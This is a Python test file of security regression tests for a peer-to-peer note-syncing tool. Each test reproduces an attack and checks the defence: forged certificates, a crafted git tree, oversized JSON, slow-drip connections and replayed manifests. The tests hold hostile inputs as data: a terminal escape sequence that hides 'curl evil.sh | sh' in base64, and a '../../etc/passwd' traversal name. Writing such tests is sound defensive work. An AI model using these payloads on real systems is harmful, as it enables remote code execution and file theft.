"""The mesh under a real attacker (#34): each test is one attack that got through, reproduced
with real TLS on 127.0.0.1, real git and real folders, and what must hold instead."""
from __future__ import annotations

import base64
import datetime as dt
import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT, cli_env, run_json
from meshkit import GOOD, entry, forge, introduce, mesh, remote, seal_as, transport_args, two  # noqa: F401 (fixtures)


# ------------------------------------------------------------------------------- helpers

def _tls(port: int, cert: tuple | None = None) -> ssl.SSLSocket:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    if cert:
        ctx.load_cert_chain(*cert)
    return ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10))


def _post_hello(port: int, body: bytes) -> int:
    s = _tls(port)
    try:
        s.sendall(b"POST /v2/hello HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        answer = s.recv(200)
        return int(answer.split()[1]) if answer else 0  # (0: the server dropped the connection)
    finally:
        s.close()


def _ca_and_leaf(tmp_path: Path, tag: str) -> tuple:
    """A stranger's CA certificate, and a client certificate + key it issued (PEM paths)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    now = dt.datetime.now(dt.timezone.utc) - dt.timedelta(days=1)

    def make(cn, key, issuer, issuer_key, ca):
        return (x509.CertificateBuilder().subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)]))
                .issuer_name(issuer).public_key(key.public_key()).serial_number(x509.random_serial_number())
                .not_valid_before(now).not_valid_after(now + dt.timedelta(days=30))
                .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
                .sign(issuer_key, hashes.SHA256()))
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, f"stranger ca {tag}")])
    ca = make(f"stranger ca {tag}", ca_key, ca_name, ca_key, True)
    leaf_key = ec.generate_private_key(ec.SECP256R1())
    leaf = make("stranger", leaf_key, ca_name, ca_key, False)
    pem = serialization.Encoding.PEM
    cp, kp = tmp_path / f"leaf-{tag}.crt", tmp_path / f"leaf-{tag}.key"
    cp.write_bytes(leaf.public_bytes(pem))
    kp.write_bytes(leaf_key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    return ca.public_bytes(pem), (str(cp), str(kp))


def _peak_rss_mb(args: list, home: Path) -> tuple[float, subprocess.CompletedProcess]:
    """Run the CLI in a child of a fresh interpreter and return the child's peak RSS (MB)."""
    probe = ("import resource, subprocess, sys\n"
             "p = subprocess.run(sys.argv[1:], capture_output=True)\n"
             "sys.stderr.buffer.write(p.stderr)\n"
             "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024, p.returncode)\n")
    p = subprocess.run([sys.executable, "-c", probe, sys.executable, "-m", "chrollo", *args],
                       capture_output=True, text=True, env=cli_env(home), timeout=300)
    rss, rc = p.stdout.split()
    return float(rss), subprocess.CompletedProcess(args, int(rc), "", p.stderr)


# ------------------------------------------------------------ 6. hello: bounded and sanitised

def test_a_strangers_hello_with_junk_never_kills_serve_nor_plants_a_ca(mesh, tmp_path):
    """A stranger (no client certificate) posts a paired peer's public certificate plus a junk
    PEM block, then the same certificate plus a stranger CA: nothing of it is stored or
    trusted, junk is rate-limited, the server restarts fine and the peer still syncs."""
    a, b = two(mesh, lan=True)
    junk = b"-----BEGIN CERTIFICATE-----\nAAAAAAAA\n-----END CERTIFICATE-----\n"
    assert _post_hello(b.port, a.identity().cert_pem + junk) != 204
    ca, leaf = _ca_and_leaf(tmp_path, "1")
    codes = [_post_hello(b.port, a.identity().cert_pem + ca) for _ in range(15)]
    assert 204 not in codes and 429 in codes, codes
    stored = b.home / "mesh" / "certs" / f"{a.id}.pem"
    assert not stored.exists() or stored.read_bytes() == a.identity().cert_pem
    with pytest.raises((ssl.SSLError, OSError)):  # the stranger CA is not in the trust store
        s = _tls(b.port, leaf)
        s.sendall(b"GET /v2/manifest HTTP/1.1\r\nHost: x\r\n\r\n")
        assert s.recv(100)  # (TLS 1.3 reports a refused client certificate on the first read)
    p, out = a.sync("--all")
    assert p.returncode == 0 and out["peers"][0]["downloaded"] == 1, out
    b.stop()
    b.serve()  # a stored certificate never stops a later start
    a.cli("mesh", "peers", "set", "bravo", "--address", b.address)
    b.session("bbbb0002-x", "after the restart", start="2026-10-02T10:00:00")
    p, out = a.sync("--all")
    assert p.returncode == 0 and out["peers"][0]["downloaded"] == 1, out


# ---------------------------------------------- 8. a folder or a bad tree where a manifest was

def test_a_directory_in_place_of_a_manifest_never_stops_a_folder_sync(mesh, tmp_path):
    a, b = two(mesh)
    c = mesh("charlie")
    c.session("cccc0001-x", "charlie writes the release notes")
    for x, y in ((a, c), (c, a)):
        x.pair(y)
    args = transport_args("folder", tmp_path)
    introduce(args, a, b, c)
    assert a.peer_files("charlie")
    shared = Path(args[1])
    for who in (a, b):  # the victim's own folder, and a peer's
        (shared / who.id / "manifest.json").unlink()
        (shared / who.id / "manifest.json").mkdir()
        (shared / who.id / "manifest.json" / "x").write_text("x")
    c.session("cccc0002-x", "charlie adds a second session", start="2026-10-02T10:00:00")
    c.sync(*args)
    p, out = a.sync(*args)
    res = {r["peer"]: r for r in out["peers"]}
    assert p.returncode == 1 and res["bravo"]["errors"] and "not a regular file" in res["bravo"]["errors"][0], out
    assert res["charlie"]["downloaded"] == 1 and not res["charlie"]["errors"]
    assert not out["errors"] and (shared / a.id / "manifest.json").is_file()  # its own folder is its own


def _git(repo: Path, *args, input: bytes | None = None) -> str:
    return subprocess.run(["git", "--git-dir", str(repo), *args], input=input, capture_output=True,
                          check=True).stdout.decode().strip()


def test_a_tree_posing_as_a_manifest_never_desynchronises_the_git_reader(mesh, tmp_path, remote):
    """manifest.json (mode 100644) pointing at a tree whose first entry is named
    ``blob 99999999\\n``: the object reader must not take the tree's bytes for a header."""
    a, b = two(mesh)
    c = mesh("charlie")
    c.session("cccc0001-x", "charlie writes the release notes")
    for x, y in ((a, c), (c, a)):
        x.pair(y)
    args = transport_args("git", tmp_path, remote)
    introduce(args, a, b, c)
    def tree(entries) -> str:  # a raw tree object, written as it is (git would refuse to make it)
        raw = b"".join(b"%s %s\0%s" % (m, n, bytes.fromhex(o)) for m, n, o in sorted(entries, key=lambda e: e[1]))
        return _git(remote, "hash-object", "-w", "-t", "tree", "--literally", "--stdin", input=raw)

    def rows(oid) -> list:
        out = []
        for line in _git(remote, "ls-tree", oid).splitlines():
            meta, name = line.split("\t")
            mode, _typ, o = meta.split()
            out.append((mode.lstrip("0").encode(), name.encode(), o))
        return out
    blob = _git(remote, "hash-object", "-w", "--stdin", input=b"x")
    evil = tree([(b"100644", b"blob 99999999\n", blob)])
    head = _git(remote, "rev-parse", "chrollo-mesh")
    top = []
    for mode, name, oid in rows(head):
        if name == b.id.encode():
            oid = tree([r for r in rows(oid) if r[1] != b"manifest.json"] + [(b"100644", b"manifest.json", evil)])
        top.append((mode, name, oid))
    commit = _git(remote, "commit-tree", tree(top), "-p", head, "-m", "attack")
    _git(remote, "update-ref", "refs/heads/chrollo-mesh", commit)
    c.session("cccc0002-x", "charlie adds a second session", start="2026-10-02T10:00:00")
    c.sync(*args)
    p, out = a.sync(*args)  # run() has a 120 s timeout: a blocked reader fails the test
    res = {r["peer"]: r for r in out["peers"]}
    assert p.returncode == 1 and "not a blob" in " ".join(res["bravo"]["errors"]), out
    assert res["charlie"]["downloaded"] == 1 and not res["charlie"]["errors"], out


# ------------------------------------------------------ 9. bounds checked before any parsing

@pytest.mark.parametrize("where", ["escapes", "cert"])
def test_a_huge_unsigned_outer_manifest_is_refused_before_it_costs_memory(mesh, tmp_path, where):
    a, b = two(mesh)
    args = transport_args("folder", tmp_path)
    introduce(args, a, b)
    target = Path(args[1]) / b.id / "manifest.json"
    env = json.loads(target.read_bytes())
    if where == "escapes":
        raw = (json.dumps(env)[:-1] + ', "pad": "' + "\\u0000" * (28_000_000 // 6) + '"}').encode()
    else:
        env["cert"] = "-----BEGIN CERTIFICATE-----\n" + "A" * (10 << 20) + "\n-----END CERTIFICATE-----\n"
        raw = json.dumps(env).encode()
    target.write_bytes(raw)
    rss, p = _peak_rss_mb(["mesh", "sync", *args, "--json"], a.home)
    assert p.returncode == 1, p.stderr
    assert rss < 250, f"peak RSS {rss:.0f} MB"


def test_a_read_is_bounded_whatever_size_its_stat_said(tmp_path):
    """Reads ask for the size a stat saw, plus one byte: a file that grew since (or a stat
    that lied) is still read whole up to the limit and never past limit + 1 bytes, and a
    peer's file larger than the limit is refused."""
    from chrollo.mesh.files import Refused, read_at, read_fd, read_path

    for n in (0, 1, 4095, 70_000, 3 << 20):
        f = tmp_path / f"f{n}"
        data = os.urandom(n)
        f.write_bytes(data)
        assert read_path(str(f), 8 << 20) == data
        assert read_path(str(f), 1000) == data[:1001]
        fd = os.open(f, os.O_RDONLY)
        try:
            for hint in (0, n // 2, n, n + 10):  # a stale size: smaller, right, larger
                os.lseek(fd, 0, os.SEEK_SET)
                assert read_fd(fd, 8 << 20, hint) == data
                os.lseek(fd, 0, os.SEEK_SET)
                assert read_fd(fd, 1000, hint) == data[:1001]
        finally:
            os.close(fd)
    dfd = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        with pytest.raises(Refused):
            read_at(dfd, f"f{3 << 20}", 1 << 20)
        assert read_at(dfd, "f70000", 70_000) == (tmp_path / "f70000").read_bytes()
    finally:
        os.close(dfd)


def test_nesting_hidden_by_escapes_is_still_counted_before_the_parser_sees_it():
    """The depth check reads a document with escapes as the parser pairs them (an escaped
    backslash, then an escaped quote): strings full of quotes, backslashes and brackets never
    hide a level from it, nor invent one; a document one level too deep is refused, at the
    limit it is parsed."""
    import random

    from chrollo.mesh.files import Refused, bounded_json

    rnd = random.Random(34)
    alphabet = ['"', "\\", "[", "]", "{", "}", "a", "\n", "\\\"", "\"\\"]

    def value(depth: int):
        text = "".join(rnd.choice(alphabet) for _ in range(rnd.randrange(6)))
        if depth == 0:
            return text
        inner = value(depth - 1)
        return [text, inner] if rnd.random() < 0.5 else {text: inner, "k": text}
    for _ in range(300):
        depth = rnd.randrange(1, 6)
        doc = value(depth)  # depth + 1 levels' worth of strings: `depth` brackets around a string
        raw = json.dumps(doc).encode()
        assert bounded_json(raw, depth=depth) == doc
        with pytest.raises(Refused):
            bounded_json(raw, depth=depth - 1)


# ----------------------------------------- 12. what a peer supplies never reaches a terminal raw

def test_escapes_in_a_peers_manifest_never_reach_the_terminal(mesh, tmp_path):
    a, b = two(mesh)
    args = transport_args("folder", tmp_path)
    introduce(args, a, b)
    evil = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
    bad = dict(entry("2026-10-09_000000_x.md", GOOD), size=evil)
    inner = forge(b.identity(), [bad], seq=50)
    outer, _ = seal_as(b.identity(), {a.id: a.identity().cert_pem}, inner, {})
    (Path(args[1]) / b.id / "manifest.json").write_bytes(outer)
    for cmd in (["mesh", "sync", *args], ["mesh", "status"]):
        p = a.cli(*cmd)
        assert "\x1b" not in p.stdout + p.stderr and "\x07" not in p.stdout + p.stderr, (cmd, p.stderr)
    assert "size refused" in a.cli("mesh", "status").stdout


# ------------------------------------------------------------------- forget is final everywhere

def _shared_pair(mesh, tmp_path):
    a, b = two(mesh)
    args = transport_args("folder", tmp_path)
    introduce(args, a, b)
    assert a.peer_files("bravo") and b.peer_files("alpha")
    return a, b, args


def test_import_of_a_backup_never_brings_a_forgotten_session_back_nor_does_the_mesh(mesh, tmp_path):
    """1. A forgotten session comes back through `import chrollo-vault --source <backup>` (and
    a file copied back by hand): neither import nor the next sync may bring it back."""
    a, b, args = _shared_pair(mesh, tmp_path)
    a.session("aaaa0002-x", "the wifi password is on the fridge, a second line", start="2026-10-02T10:00:00")
    backup = tmp_path / "backup"
    shutil.copytree(a.vault, backup, ignore=shutil.ignore_patterns("peers"))
    (name,) = [p.name for p in backup.glob("*aaaa0001*")]
    assert a.cli("forget", "aaaa0001-x", "--yes").returncode == 0
    assert a.cli("forget", "--lines", "wifi password").returncode == 0
    a.sync(*args)
    assert b.sync(*args)[1]["peers"][0]["withdrawn"] == 1
    p, out = run_json(["import", "chrollo-vault", "--source", str(backup)], a.home)
    assert p.returncode == 0, p.stderr
    assert not (a.vault / name).exists(), "import brought a forgotten session back"
    (other,) = [p.name for p in backup.glob("*aaaa0002*")]
    assert "wifi password" not in (a.vault / other).read_text()  # a forgotten line stays forgotten
    shutil.copy(backup / name, a.vault / name)  # copied back by hand: still never published
    a.sync(*args)
    b.sync(*args)
    assert name not in b.peer_files("alpha")
    assert not any(b"wifi password" in v for v in b.peer_files("alpha").values())


def test_forgotten_lines_in_a_peers_copy_stay_forgotten(mesh, tmp_path):
    """2. `forget --lines X` on a peer's copy was undone by the next sync (the local hash
    differed, so the original was fetched again)."""
    a, b, args = _shared_pair(mesh, tmp_path)
    assert a.cli("forget", "--lines", "postgres replication").returncode == 0
    (name,) = a.peer_files("bravo")
    assert b"postgres replication" not in a.peer_files("bravo")[name]
    a.sync(*args)
    assert b"postgres replication" not in a.peer_files("bravo")[name]
    f = next(b.vault.glob("*bbbb0001*"))
    with open(f, "a") as fh:  # the peer grows the file: the new version comes, still scrubbed
        fh.write("[2026-10-01 10:07:00] [User]\nand postgres replication lag alerts\n\n\n")
    b.sync(*args)
    p, out = a.sync(*args)
    assert out["peers"][0]["downloaded"] == 1, out
    got = a.peer_files("bravo")[name]
    assert b"postgres replication" not in got and b"[forgotten by chrollo]" in got


def test_an_excluded_projects_older_sessions_are_never_published(mesh, tmp_path):
    """4. After `exclude add <project>`, that project's older sessions were still published."""
    from conftest import write_session

    a, b = two(mesh)
    write_session(a.vault, "aaaa0009-x", "2026-10-03T10:00:00",
                  [("user", "10:00:00", "clientx merger term sheet numbers")], cwd="/work/clientx/app")
    args = transport_args("folder", tmp_path)
    introduce(args, a, b)
    assert any(b"term sheet" in v for v in b.peer_files("alpha").values())
    assert a.cli("exclude", "add", "/work/clientx").returncode == 0
    a.sync(*args)
    b.sync(*args)
    assert not any(b"term sheet" in v for v in b.peer_files("alpha").values())
    assert any(b"kubernetes ingress" in v for v in b.peer_files("alpha").values())


# ---------------------------------------------------------------- 13. --no-searchable honoured

def _mcp_read(home: Path, vault: Path, path: str) -> dict:
    init = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
            "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}
    call = {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
            "params": {"name": "read_memory_file", "arguments": {"path": path, "line": 1}}}
    data = "".join(json.dumps(x) + "\n" for x in (init, {"jsonrpc": "2.0", "method": "notifications/initialized"}, call))
    p = subprocess.run([sys.executable, "-m", "chrollo", "mcp", "--dir", str(vault)], input=data.encode(),
                       capture_output=True, env=cli_env(home), cwd=str(ROOT), timeout=60)
    return [json.loads(x) for x in p.stdout.decode().splitlines()][-1]["result"]


def test_a_no_searchable_peer_stays_out_of_read_memory_file_and_after_it_is_removed(mesh, tmp_path):
    a, b, args = _shared_pair(mesh, tmp_path)
    (name,) = a.peer_files("bravo")
    rel = f"peers/bravo/{name}"
    assert "postgres" in _mcp_read(a.home, a.vault, rel)["content"][0]["text"]
    a.cli("mesh", "peers", "set", "bravo", "--no-searchable")
    res = _mcp_read(a.home, a.vault, rel)
    assert res["isError"] and "postgres" not in res["content"][0]["text"]
    assert a.cli("mesh", "peers", "remove", "bravo", "--keep-files").returncode == 0
    assert (a.vault / rel).exists()
    p, res = run_json(["search", "postgres", "replication"], a.home)
    assert res["hits"] == []
    assert _mcp_read(a.home, a.vault, rel)["isError"]


# --------------------------------------------- 3. a peer paired later never opens what was forgotten

def _history_blobs(remote: Path, folder: str) -> list:
    """Every blob ever committed under ``folder/`` on the branch."""
    out = set()
    for commit in _git(remote, "rev-list", "chrollo-mesh").split():
        for line in _git(remote, "ls-tree", "-r", commit).splitlines():
            meta, path = line.split("\t")
            if path.startswith(folder + "/") and not path.endswith("manifest.json"):
                out.add(meta.split()[2])
    return [subprocess.run(["git", "--git-dir", str(remote), "cat-file", "blob", o], capture_output=True,
                           check=True).stdout for o in sorted(out)]


def test_a_peer_paired_later_cannot_open_a_session_forgotten_before(mesh, tmp_path, remote):
    from chrollo.mesh.seal import unseal
    from meshkit import content_key_of

    a, b = two(mesh)
    a.session("aaaa0005-x", "the layoff list for the berlin office", start="2026-10-05T10:00:00")
    args = transport_args("git", tmp_path, remote)
    introduce(args, a, b)
    (gone,) = [p.name for p in a.vault.glob("*aaaa0005*")]
    assert a.cli("forget", "aaaa0005-x", "--yes").returncode == 0
    a.sync(*args)
    c = mesh("charlie")  # paired after the forget
    for x, y in ((a, c), (c, a)):
        x.pair(y)
    introduce(args, a, c)
    assert c.peer_files("alpha") and gone not in c.peer_files("alpha")
    outer = subprocess.run(["git", "--git-dir", str(remote), "show", f"chrollo-mesh:{a.id}/manifest.json"],
                           capture_output=True, check=True).stdout
    key = content_key_of(c.identity(), outer)
    opened = []
    for blob in _history_blobs(remote, a.id):
        try:
            opened.append(unseal(key, gone, blob))
        except Exception:  # noqa: BLE001 — does not open: what must hold
            pass
    assert not [x for x in opened if b"layoff" in x]


# ------------------------------------------------ 5. names on shared media say nothing of the content

@pytest.mark.parametrize("kind", ["git", "folder"])
def test_names_on_a_shared_medium_say_nothing_of_the_content(mesh, tmp_path, remote, kind):
    from conftest import write_session

    a, b = two(mesh)
    write_session(a.vault, "aaaa0007-x", "2026-10-07T10:00:00",
                  [("user", "10:00:00", "draft the layoff announcement for the berlin office")], fmt=2)
    args = transport_args(kind, tmp_path, remote)
    introduce(args, a, b)
    assert any(b"layoff announcement" in v for v in b.peer_files("alpha").values())
    assert any("layoff" in n for n in os.listdir(a.vault))  # (format 2 names files by their title)
    if kind == "folder":
        names = [str(p.relative_to(args[1])) for p in Path(args[1]).rglob("*")]
    else:
        names = _git(remote, "ls-tree", "-r", "--name-only", "chrollo-mesh").splitlines()
    assert names
    for n in names:
        base = n.rsplit("/", 1)[-1]
        assert base == "manifest.json" or base in (a.id, b.id) or \
            (len(base) == 32 and set(base) <= set("0123456789abcdef")), n


def _frontmatter_link(data: bytes, key: str) -> str | None:
    for ln in data.decode().split("\n---\n", 1)[0].split("\n"):
        if ln.startswith(f"{key}: "):
            return json.loads(ln[len(key) + 2:]).strip("[]")
    return None


@pytest.mark.parametrize("kind", ["lan", "folder", "git"])
def test_a_secret_in_a_first_prompt_never_reaches_a_peer_in_a_file_name_or_a_link(mesh, tmp_path, remote, kind):
    """A short secret in a session's first prompt was in its file name (the title's slug) and
    in the ``previous`` link of the next session: a paired peer got both in clear. Published
    names are made from the redacted title, links name files as published, and a name that
    changes (new redaction rules) replaces the peer's older copy instead of doubling it."""
    from conftest import write_session

    a, b = two(mesh, lan=kind == "lan")
    first = write_session(a.vault, "aaaa0008-x", "2026-10-08T10:00:00",
                          [("user", "10:00:00", "mysql -u root -pS3cret99 prod is down in berlin")], fmt=2)
    later = write_session(a.vault, "aaaa0009-x", "2026-10-08T11:00:00",
                          [("user", "11:00:00", "continue fixing the prod database")], fmt=2)
    assert "s3cret99" in first.name and "s3cret99" in later.read_text()  # (as written here)
    args = ["--all"] if kind == "lan" else transport_args(kind, tmp_path, remote)

    def taken() -> dict:
        if kind == "lan":
            p, out = b.sync(*args)
        else:
            introduce(args, a, b)
            p, out = b.sync(*args)
        assert p.returncode == 0, out
        got = b.peer_files("alpha")
        for name, data in got.items():
            assert "s3cret99" not in name.lower() and b"s3cret99" not in data.lower(), name
        (cont,) = [d for n, d in got.items() if "aaaa0009" in n]
        prev = _frontmatter_link(cont, "previous")
        assert prev and f"{prev}.md" in got, (prev, sorted(got))  # the continuation links its copy
        assert b"S3cret99" not in got[f"{prev}.md"]
        return got

    got = taken()
    assert len(got) == 3
    (a.home / "redact.json").write_text(json.dumps({"extra": {"city": "berlin"}}))
    got = taken()  # the first session's name changes with the rules: the old copy goes
    assert len(got) == 3 and not any("berlin" in n for n in got), sorted(got)


# ------------------------------------------------ 7. slow connections never starve paired peers

def test_anonymous_tls_connections_dripping_never_starve_a_paired_peer(mesh):
    """64 TLS connections without a certificate, each dripping a request: they held every slot
    for up to 30 minutes and paired peers got EOF."""
    import time

    a, b = two(mesh, lan=True)
    held = []
    for _ in range(64):
        s = _tls(b.port)
        s.sendall(b"G")  # ... and a byte every few seconds after (well within any idle timeout)
        held.append(s)
    started = time.monotonic()
    p, out = a.sync("--all")
    assert p.returncode == 0 and out["peers"][0]["downloaded"] == 1, out
    assert time.monotonic() - started < 15
    from chrollo.mesh.server import ANON_DEADLINE

    s = held[-1]  # the newest of them: not evicted by the peer, so only its deadline ends it
    s.settimeout(ANON_DEADLINE + 10)
    t0 = time.monotonic()
    try:
        while s.recv(100):
            pass
    except (ssl.SSLError, OSError):
        pass
    assert time.monotonic() - t0 < ANON_DEADLINE + 5
    for s in held:
        s.close()


# ------------------------------------------------------- 10. quotas on files and history

def _publish_forged(sender, reader, folder: Path, files: dict, seq: int) -> None:
    """Write ``sender``'s folder on the shared medium as a crafted (but validly signed and
    sealed) publication of ``files`` ({name: bytes}) for ``reader``."""
    from chrollo.mesh.seal import blob_name

    key = os.urandom(32)
    inner = forge(sender, [entry(n, d) for n, d in files.items()], seq=seq)
    outer, sealed = seal_as(sender, {reader.id: reader.cert_pem}, inner, files, key=key)
    env = dict(json.loads(outer), names="opaque")
    d = folder / sender.id
    shutil.rmtree(d, ignore_errors=True)
    d.mkdir()
    for n, blob in sealed.items():
        (d / blob_name(key, n)).write_bytes(blob)
    (d / "manifest.json").write_text(json.dumps(env))


def test_quotas_count_files_and_history_not_only_current_bytes(mesh, tmp_path):
    """A peer that publishes many empty files, each round new ones, or deletes (not forgets)
    and republishes: the receiver grew without bound (30,000 files; 4x the quota)."""
    a, b, args = _shared_pair(mesh, tmp_path)
    a.cli("mesh", "peers", "set", "bravo", "--quota", "1")
    folder = Path(args[1])
    for r in range(3):  # 3 rounds of 2,000 new empty files
        files = {f"2026-09-{r + 1:02d}_{i:06d}_e{r}.md": b"" for i in range(2000)}
        _publish_forged(b.identity(), a.identity(), folder, files, seq=100 + r)
        a.sync(*args)
    held = list((a.vault / "peers" / "bravo").iterdir())
    assert len(held) <= 256, len(held)  # 1 MB of 4 KiB blocks
    # deleting and republishing, round after round
    for r in range(4):
        body = GOOD + b"x" * 300_000 + str(r).encode()
        _publish_forged(b.identity(), a.identity(), folder, {f"2026-10-1{r}_000000_big{r}.md": body}, seq=200 + r)
        p, out = a.sync(*args)
        assert out["peers"][0]["downloaded"] == 1, out
    sizes = [p.stat().st_size for p in (a.vault / "peers" / "bravo").iterdir()]
    assert sum(sizes) <= 1 << 20, sum(sizes)
    assert (a.vault / "peers" / "bravo" / "2026-10-13_000000_big3.md").exists()  # the newest stays


# ------------------------------------------------- batches of files: bounded, paired peers only

def _post_files(port: int, body: bytes, cert: tuple | None = None) -> tuple[int, bytes]:
    s = _tls(port, cert)
    try:
        s.sendall(b"POST /v2/files HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        got = b""
        while b"\r\n\r\n" not in got:
            chunk = s.recv(65536)
            if not chunk:
                return 0, b""
            got += chunk
        head, _, data = got.partition(b"\r\n\r\n")
        length = int(next(ln.split(b":")[1] for ln in head.split(b"\r\n") if ln.lower().startswith(b"content-length")))
        while len(data) < length:
            data += s.recv(1 << 20)
        return int(head.split()[1]), data
    finally:
        s.close()


def test_a_batch_of_files_is_bounded_and_for_paired_peers_only(mesh):
    """POST /v2/files (one request for many files): a stranger gets 403; a paired peer asking
    for more than 1,024 names, or with a larger request than 512 KiB, is refused; names that
    are not published are answered as not sent; an answer stops at 16 MB (a paired peer asking
    for one big file again and again cannot make the server build gigabytes)."""
    from chrollo.mesh.files import NOT_SENT
    from chrollo.mesh.identity import Identity

    a, b = two(mesh, lan=True)
    big = "2026-10-05_100000_bigfile1.md"
    (b.vault / big).write_bytes(b'---\nsession_id: "big"\n---\n\n' + b"a plain line of text\n" * 250_000)
    assert a.sync("--all")[0].returncode == 0  # (b now knows a's certificate)
    key, cert = Identity.paths(str(a.home / "mesh"))
    assert _post_files(b.port, json.dumps([big]).encode())[0] == 403  # no certificate
    assert _post_files(b.port, json.dumps([big] * 1025).encode(), (cert, key))[0] == 400
    assert _post_files(b.port, b'["' + b"x" * (600 << 10) + b'"]', (cert, key))[0] == 413
    status, data = _post_files(b.port, json.dumps([big] * 5 + ["../../etc/passwd", "2026-10-05_100000_nope.md"]).encode(),
                               (cert, key))
    assert status == 200
    lengths, at = [], 0
    while at < len(data):
        n = int.from_bytes(data[at:at + 8], "big")
        lengths.append(n)
        at += 8 + (0 if n == NOT_SENT else n)
    size = (b.vault / big).stat().st_size
    assert lengths == [size] * 3 + [NOT_SENT] * 4, lengths  # 3 × 5.3 MB fit in 16 MB, a fourth does not
    assert len(data) <= (16 << 20) + 8 * 7


# ------------------------------------------------- 11. a per-peer deadline over the whole pull

DRIP = r"""
import sys, time
from chrollo.mesh import server as S
plain = S.Handler._send
def slow(self, code, body=b"", ctype="application/octet-stream"):
    if not self.path.startswith("/v2/file"):  # (a file, or a batch of them)
        return plain(self, code, body, ctype)
    self.send_response(code)
    self.send_header("Content-Length", str(len(body)))
    self.end_headers()
    for i in range(len(body)):  # a byte every 0.5 s: every read is well within the idle timeout
        self.wfile.write(body[i:i + 1])
        self.wfile.flush()
        time.sleep(0.5)
S.Handler._send = slow
from chrollo.cli import main
main(["mesh", "serve", "--port", "0"])
"""


def test_a_paired_server_dripping_every_file_cannot_hold_a_sync(mesh):
    import time

    a, b = two(mesh)
    for i in range(4):
        b.session(f"bbbb002{i}-x", f"session {i} " + "y" * 200, start=f"2026-10-2{i}T10:00:00")
    proc = subprocess.Popen([sys.executable, "-c", DRIP], env=cli_env(b.home), stderr=subprocess.PIPE, text=True)
    try:
        line = proc.stderr.readline()
        port = int(line.split("127.0.0.1:")[1].split()[0])
        a.cli("mesh", "peers", "set", "bravo", "--address", f"127.0.0.1:{port}")
        t0 = time.monotonic()
        p, out = a.sync("--all", "--timeout", "8")
        took = time.monotonic() - t0
    finally:
        proc.kill()
        proc.wait()
    assert p.returncode == 1 and took < 25, (took, out)
    assert "deadline" in " ".join(out["peers"][0]["errors"]), out


# --------------------------------------- 14. a replayed older publication and a withdrawn session

def test_a_replayed_older_publication_never_restores_a_withdrawn_session(mesh, tmp_path):
    """Bound: a manifest signed more than 7 days ago gives nothing new (its withdrawals still
    apply); an honest node re-signs at least daily when it syncs."""
    a, b, args = _shared_pair(mesh, tmp_path)
    folder = Path(args[1])
    t0, t1, t8 = "2026-11-01T12:00:00", "2026-11-02T12:00:00", "2026-11-09T13:00:00"
    b.session("bbbb0031-x", "the acquisition target is hooli", start="2026-10-20T10:00:00")
    run_json(["mesh", "sync", *args], b.home, CHROLLO_NOW=t0)
    saved = tmp_path / "saved"
    shutil.copytree(folder / b.id, saved)  # a member keeps this publication (a has not synced since)
    assert b.cli("forget", "bbbb0031-x", "--yes").returncode == 0
    run_json(["mesh", "sync", *args], b.home, CHROLLO_NOW=t1)
    shutil.rmtree(folder / b.id)
    shutil.copytree(saved, folder / b.id)  # ... and replays it a week later
    p, out = run_json(["mesh", "sync", *args], a.home, CHROLLO_NOW=t8)
    assert not any(b"hooli" in v for v in a.peer_files("bravo").values()), out
    assert "nothing new is taken" in " ".join(out["peers"][0]["errors"])
    # the honest peer syncs again: signed afresh, taken (and still without the withdrawn session)
    run_json(["mesh", "sync", *args], b.home, CHROLLO_NOW=t8)
    p, out = run_json(["mesh", "sync", *args], a.home, CHROLLO_NOW=t8)
    assert p.returncode == 0 and not out["peers"][0]["errors"], out
    assert not any(b"hooli" in v for v in a.peer_files("bravo").values())


def test_a_member_that_missed_a_withdrawal_learns_it_from_another_and_a_replay_restores_nothing(mesh, tmp_path):
    """Within MAX_AGE: alpha has not pulled since bravo withdrew a session, and a member
    replays bravo's older publication. Charlie took the withdrawal and relays bravo's signed
    statement of it; alpha, hearing it (before or after pulling bravo in the same sync), takes
    nothing the statement names from a manifest of bravo older than it."""
    a, b = two(mesh)
    c = mesh("charlie")
    c.session("cccc0001-x", "charlie tunes the redis eviction policy")
    for x, y in ((a, c), (c, a), (b, c), (c, b)):
        x.pair(y)
    args = transport_args("folder", tmp_path)
    folder = Path(args[1])
    t0, t1, t2 = "2026-11-01T12:00:00", "2026-11-02T12:00:00", "2026-11-03T12:00:00"
    for n in (a, b, c) * 2:
        run_json(["mesh", "sync", *args], n.home, CHROLLO_NOW=t0)
    b.session("bbbb0031-x", "the acquisition target is hooli", start="2026-10-20T10:00:00")
    run_json(["mesh", "sync", *args], b.home, CHROLLO_NOW=t0)
    run_json(["mesh", "sync", *args], c.home, CHROLLO_NOW=t0)
    assert any(b"hooli" in v for v in c.peer_files("bravo").values())
    saved = tmp_path / "saved"
    shutil.copytree(folder / b.id, saved)  # a member keeps this publication (alpha has not synced since)
    assert b.cli("forget", "bbbb0031-x", "--yes").returncode == 0
    run_json(["mesh", "sync", *args], b.home, CHROLLO_NOW=t1)
    for _ in range(2):  # (charlie takes the withdrawal, then publishes what it heard)
        run_json(["mesh", "sync", *args], c.home, CHROLLO_NOW=t1)
    assert not any(b"hooli" in v for v in c.peer_files("bravo").values())
    shutil.rmtree(folder / b.id)
    shutil.copytree(saved, folder / b.id)  # ... and replays it the next day
    p, out = run_json(["mesh", "sync", *args], a.home, CHROLLO_NOW=t2)
